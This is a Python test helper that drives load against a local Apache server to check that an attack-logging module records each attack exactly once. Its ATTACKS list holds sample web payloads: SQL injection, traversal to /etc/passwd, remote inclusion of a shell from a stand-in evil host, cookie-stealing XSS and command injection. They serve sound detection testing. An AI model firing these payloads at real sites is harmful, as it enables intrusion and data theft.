"""Load generation and bookkeeping for test_reliability.py.

Requests are numbered: every one carries `lwseq=N` in its query, so each
record in the attack log can be matched to the request that caused it.
The client runs in several processes (the GIL would make threads alone the
bottleneck), each with its share of the concurrent connections; one
connection per request (the private servers have KeepAlive Off).
"""
import json
import os
import re
import socket
import threading
import time
import urllib.parse

import lwhttpd

SEQ_RE = re.compile(r"[?&]lwseq=(\d+)")

# Attack request targets (the seed's kinds: sqli, lfi, rfi, xss, rce,
# probe), each flagged by the shipped signatures; "{n}" is the sequence.
ATTACKS = [
    "/index.php?id=-1+UNION+SELECT+1,2,3,user(),5--&lwseq={n}",
    "/home.php?pgi=../../../../../../etc/passwd&lwseq={n}",
    "/news.php?page=http://evil.example/shell.txt?&lwseq={n}",
    "/search.php?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E&lwseq={n}",
    "/cgi.php?cmd=;cat+/etc/passwd;id&lwseq={n}",
    "/contact/press_release_pop.php?id=-109+union+select+1,concat(0x5b,user(),0x5d),3--&lwseq={n}",
]


def benign_targets(n):
    """n benign targets from the NASA trace (path only, with lwseq)."""
    lines = lwhttpd.benign_request_lines(2000)
    paths = [l.split()[1].split("?")[0] for l in lines]
    return [paths[i % len(paths)] for i in range(n)]


def build(n, attack_share=0.2, seq0=0, attacks=None):
    """n requests, attack_share of them attacks, interleaved evenly.
    Returns [(seq, is_attack, request_line bytes, headers)]."""
    attacks = attacks or ATTACKS
    benign = benign_targets(n)
    every = max(1, int(round(1 / attack_share))) if attack_share else 0
    agents = lwhttpd.user_agents()
    out = []
    for i in range(n):
        seq = seq0 + i
        ua = agents[i % len(agents)]
        xff = "198.51.%d.%d" % ((i // 250) % 250, 1 + i % 250)
        if every and i % every == every - 1:
            target = attacks[i % len(attacks)].format(n=seq)
            att = True
        else:
            target = benign[i] + "?lwseq=%d" % seq
            att = False
        out.append((seq, att, ("GET %s HTTP/1.1" % target).encode("latin-1"),
                    [("Host", lwhttpd.SEED_VHOSTS[i % 3]),
                     ("User-Agent", ua), ("X-Forwarded-For", xff)]))
    return out


def _one(port, line, headers, timeout):
    t0 = time.monotonic()
    try:
        st, _ = lwhttpd.raw_request(port, line, headers, timeout=timeout)
    except OSError:
        st = None
    return st, time.monotonic() - t0


def _worker_proc(port, reqs, threads, timeout, wfd):
    """Child process: send reqs over `threads` threads; write a JSON summary
    (statuses by seq of failures, counts, worst latency) to wfd."""
    idx = [0]
    lock = threading.Lock()
    res = {"status": {}, "failed": [], "worst": 0.0, "lat": []}

    def run():
        while True:
            with lock:
                i = idx[0]
                idx[0] += 1
            if i >= len(reqs):
                return
            seq, _, line, headers = reqs[i]
            st, dt = _one(port, line, headers, timeout)
            with lock:
                k = str(st)
                res["status"][k] = res["status"].get(k, 0) + 1
                if st is None:
                    res["failed"].append(seq)
                res["lat"].append(dt)

    ts = [threading.Thread(target=run) for _ in range(threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    lat = sorted(res.pop("lat"))
    res["worst"] = lat[-1] if lat else 0.0
    res["p99"] = lat[int(len(lat) * 0.99)] if lat else 0.0
    os.write(wfd, json.dumps(res).encode())
    os.close(wfd)


def send(port, reqs, clients=64, procs=4, timeout=30.0, during=None):
    """Send reqs with `clients` concurrent connections spread over `procs`
    processes. during(): optional function run in this process meanwhile
    (graceful restarts...), given the client pids; its result returned. Returns a dict: seconds,
    rate, status counts, failed seqs, worst and p99 latency, during."""
    procs = max(1, min(procs, clients))
    chunks = [reqs[i::procs] for i in range(procs)]
    kids = []
    t0 = time.monotonic()
    for i, chunk in enumerate(chunks):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            code = 0
            try:
                _worker_proc(port, chunk, clients // procs
                             + (1 if i < clients % procs else 0), timeout, w)
            except BaseException:
                code = 1
            os._exit(code)
        os.close(w)
        kids.append((pid, r))
    dres = during([pid for pid, _ in kids]) if during else None
    total = {"status": {}, "failed": [], "worst": 0.0, "p99": 0.0}
    for pid, r in kids:
        data = b""
        while True:
            chunk = os.read(r, 1 << 20)
            if not chunk:
                break
            data += chunk
        os.close(r)
        os.waitpid(pid, 0)
        part = json.loads(data.decode()) if data else {"status": {"lost": 1},
                                                       "failed": [], "worst": 0,
                                                       "p99": 0}
        for k, v in part["status"].items():
            total["status"][k] = total["status"].get(k, 0) + v
        total["failed"] += part["failed"]
        total["worst"] = max(total["worst"], part["worst"])
        total["p99"] = max(total["p99"], part["p99"])
    total["seconds"] = time.monotonic() - t0
    total["rate"] = len(reqs) / total["seconds"] if total["seconds"] else 0
    total["during"] = dres
    return total


def seqs_of(records):
    """Sequence numbers of the per-request attack records (threshold events
    and server_error records left out)."""
    out = []
    for r in records:
        if not lwhttpd.is_attack(r) or r.get("categories") == ["server_error"]:
            continue
        m = SEQ_RE.search(r.get("uri", ""))
        out.append(int(m.group(1)) if m else -1)
    return out


def check_exactly_once(records, reqs, answered=None):
    """Compare the records with the attacks sent. Returns a dict: sent,
    logged, missing (attack seqs without a record), duplicated, unknown
    (records matching no request), false_positives (benign seqs logged).
    answered: seqs the server answered (missing ones the client never got
    an answer for are not counted missing)."""
    attacks = {s for s, a, _, _ in reqs if a}
    benign = {s for s, a, _, _ in reqs if not a}
    counts = {}
    for s in seqs_of(records):
        counts[s] = counts.get(s, 0) + 1
    return {
        "sent": len(attacks),
        "logged": sum(v for k, v in counts.items() if k in attacks),
        "missing": sorted(s for s in attacks if s not in counts
                          and (answered is None or s in answered)),
        "duplicated": sorted(s for s, v in counts.items() if v > 1),
        "unknown": sorted(s for s in counts if s not in attacks
                          and s not in benign),
        "false_positives": sorted(s for s in counts if s in benign),
    }


def read_lines(paths, allow_cut=False):
    """All lines of several files (a rotated or piped log), as bytes. A
    file whose last line lacks its newline fails, unless allow_cut (then
    that piece is returned as a line too, for the caller to judge)."""
    out = []
    for p in paths:
        with open(p, "rb") as f:
            data = f.read()
        if data:
            assert allow_cut or data.endswith(b"\n"), "%s: last line cut" % p
            out += data.split(b"\n")
            if out[-1] == b"":
                out.pop()
    return out


def parse_lines(lines):
    """json.loads every line; raises AssertionError naming a torn line."""
    recs = []
    for i, line in enumerate(lines):
        try:
            recs.append(json.loads(line.decode("ascii")))
        except (ValueError, UnicodeDecodeError) as e:
            raise AssertionError("line %d is not one JSON record (%s): %r"
                                 % (i + 1, e, line[:300]))
    return recs


def wait_stable(count_fn, timeout=30.0, settle=1.0):
    """Wait until count_fn() stops changing for `settle` seconds."""
    deadline = time.time() + timeout
    last, since = count_fn(), time.time()
    while time.time() < deadline:
        time.sleep(0.2)
        n = count_fn()
        if n != last:
            last, since = n, time.time()
        elif time.time() - since >= settle:
            break
    return last


def status_json(h):
    """The module's counters from the logwatch-status page (?json), or None
    when the page is not configured."""
    st, raw = h.request("GET /logwatch-status?json HTTP/1.1",
                        [("Host", "localhost")])
    if st != 200:
        return None
    body = raw.partition(b"\r\n\r\n")[2]
    try:
        return json.loads(body.decode("ascii"))
    except ValueError:
        return None


STATUS_CONF = """<Location /logwatch-status>
    SetHandler logwatch-status
    Require all granted
    LogWatch Off
</Location>
"""

# 64 workers in every MPM, so that 64 clients are served at once.
MPM64 = {
    "prefork": "StartServers 64\nMinSpareServers 32\nMaxSpareServers 64\n"
               "ServerLimit 64\nMaxRequestWorkers 64\nListenBacklog 1024\n",
    "event": "StartServers 2\nServerLimit 4\nThreadsPerChild 16\n"
             "MinSpareThreads 16\nMaxSpareThreads 64\n"
             "MaxRequestWorkers 64\nListenBacklog 1024\n",
    "worker": "StartServers 2\nServerLimit 4\nThreadsPerChild 16\n"
              "MinSpareThreads 16\nMaxSpareThreads 64\n"
              "MaxRequestWorkers 64\nListenBacklog 1024\n",
}


def ipc_counts():
    """System V shared memory segments and semaphore sets, and /dev/shm
    entries, as counts."""
    def rows(p):
        try:
            with open(p) as f:
                return max(0, len(f.read().splitlines()) - 1)
        except OSError:
            return 0
    try:
        devshm = len(os.listdir("/dev/shm"))
    except OSError:
        devshm = 0
    return {"shm": rows("/proc/sysvipc/shm"), "sem": rows("/proc/sysvipc/sem"),
            "devshm": devshm}


def rss_kb(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for l in f:
                if l.startswith("VmRSS:"):
                    return int(l.split()[1])
    except OSError:
        pass
    return 0


def children(pid):
    """pids of the direct children of pid."""
    out = []
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/stat" % d) as f:
                st = f.read()
            ppid = int(st.rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if ppid == pid:
            out.append(int(d))
    return out
